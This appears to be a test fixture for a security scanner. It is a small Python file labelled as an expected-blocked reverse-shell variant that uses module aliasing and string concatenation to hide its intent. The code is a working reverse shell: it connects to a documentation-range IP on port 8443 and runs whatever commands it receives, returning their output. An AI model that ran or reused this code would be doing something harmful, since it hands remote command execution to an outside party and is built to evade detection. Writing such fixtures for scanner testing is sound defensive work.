# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/c2_loop.py technique: alias+concat
import socket as _m0
import subprocess as _m1

def serve(sock):
    while True:
        command = sock.recv(4096).decode().strip()
        if not command:
            break
        result = _m1.run(command, shell=True, capture_output=True)
        sock.sendall(result.stdout + result.stderr)
client = _m0.socket()
client.connect(('203' + '.0.' + '113' + '.5', 8443))
serve(client)
